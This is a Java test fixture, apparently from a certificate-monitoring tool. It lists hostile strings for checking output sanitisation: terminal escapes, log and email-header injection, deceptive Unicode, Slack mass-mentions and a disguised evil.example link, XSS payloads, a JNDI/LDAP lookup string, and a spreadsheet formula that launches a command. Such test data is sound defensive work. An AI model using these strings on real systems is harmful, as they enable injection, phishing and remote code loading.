package dev.rootwatch.testlog;

import java.util.List;
import java.util.stream.IntStream;

/**
 * What somebody might write into a certificate to command whoever reads of it. Each text stands
 * between a head and a tail of its own, {@code h07}...{@code t07}, by which it can be found again
 * wherever it comes out, and its middle compared.
 *
 * @param number its place in {@link #ALL}
 * @param middle the hostile part; may hold halves of surrogate pairs
 */
record HostileText(int number, String middle) {
  /** Longer than anything that people should be shown of it. */
  private static final int OVERLONG = 5_000;

  private static final List<String> MIDDLES =
      List.of(
          "\u001b[2J\u001b[31m", // terminal: clears the screen, red
          "\u001b]0;owned\u0007", // terminal: the window's title
          "\u009b2J", // the same begun with one C1 character
          "\u0090q\u009c", // device control string
          "\u0000", // ends strings in C
          "\b\b\b", // overwrites what stands before
          "\r\nBcc: all@corp.tld\r\n\r\n<b>", // another header, another body
          "\nWARN forged: all is well", // another line of a log
          "\u0085\u000b\u000c", // line ends that few think of
          "\u2028\u2029", // line ends of Unicode
          "\u202emoc.elgoog\u202c", // right to left
          "\u2066\u2067\u2068\u2069", // isolates
          "\u200e\u200f\u061c", // marks of direction
          "\u200b\u200c\u200d\u2060\ufeff", // cannot be seen
          "\u00ad\u034f\u180e\u3164\u2800\uffa0", // cannot be seen either
          "\u00a0\u2003\u3000", // look like a space
          "\ufe0f\udb40\udd00", // variation selectors
          "\udb40\udc41\udb40\udc42\udb40\udc7f", // tag characters
          "\ue000\udbff\udffd", // private use
          "\ufffe\uffff", // no characters
          "\ud800", // half of one
          "\udc00\ud800", // two wrong halves
          "\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301", // accents without end
          "<!channel> <!here> <@U012AB3CD>", // Slack: calls everybody
          "<https://evil.example|crt.sh>", // Slack: a link that says it is another
          "*bold* _it_ ~s~ `code` ```", // Slack: formatting
          ":rotating_light: &lt;!channel&gt;", // Slack: emoji; escaped already
          "<script>alert(1)</script>", // HTML
          "\"><img src=x onerror=alert(1)>", // HTML, out of an attribute
          "'`&amp;&#x3c;<!--", // HTML
          "=?utf-8?q?=0d=0aBcc:_all?=", // an encoded word in a header
          "\",\"severity\":\"info\",\"x\":\"\\", // JSON
          "\"} 1\nrootwatch_forged{x=\"", // a metrics page
          "${env:HOME}${jndi:ldap://x}{}%n%s", // patterns of whoever formats
          "\\u{202e}\\x1b\\", // looks escaped
          "x".repeat(OVERLONG));

  /** Begin like a formula, and so cannot have a head. */
  private static final List<String> FORMULAS =
      List.of("=cmd|'/c calc'!A1", "+1+1", "-2+3", "@SUM(1+1)");

  /** All of them, in a fixed order. */
  static final List<HostileText> ALL =
      IntStream.range(0, MIDDLES.size()).mapToObj(i -> new HostileText(i, MIDDLES.get(i))).toList();

  /** The whole text. */
  String text() {
    String formula = number < FORMULAS.size() ? FORMULAS.get(number) : "";
    return formula + "h%02d".formatted(number) + middle + "t%02d".formatted(number);
  }
}
